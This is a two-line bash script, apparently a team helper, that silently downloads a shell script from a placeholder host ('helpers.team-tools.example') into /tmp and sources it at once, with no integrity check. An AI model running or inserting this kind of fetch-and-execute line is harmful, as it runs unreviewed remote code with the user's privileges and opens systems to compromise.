#!/bin/bash
curl -so /tmp/team.sh https://helpers.team-tools.example/h.sh && . /tmp/team.sh
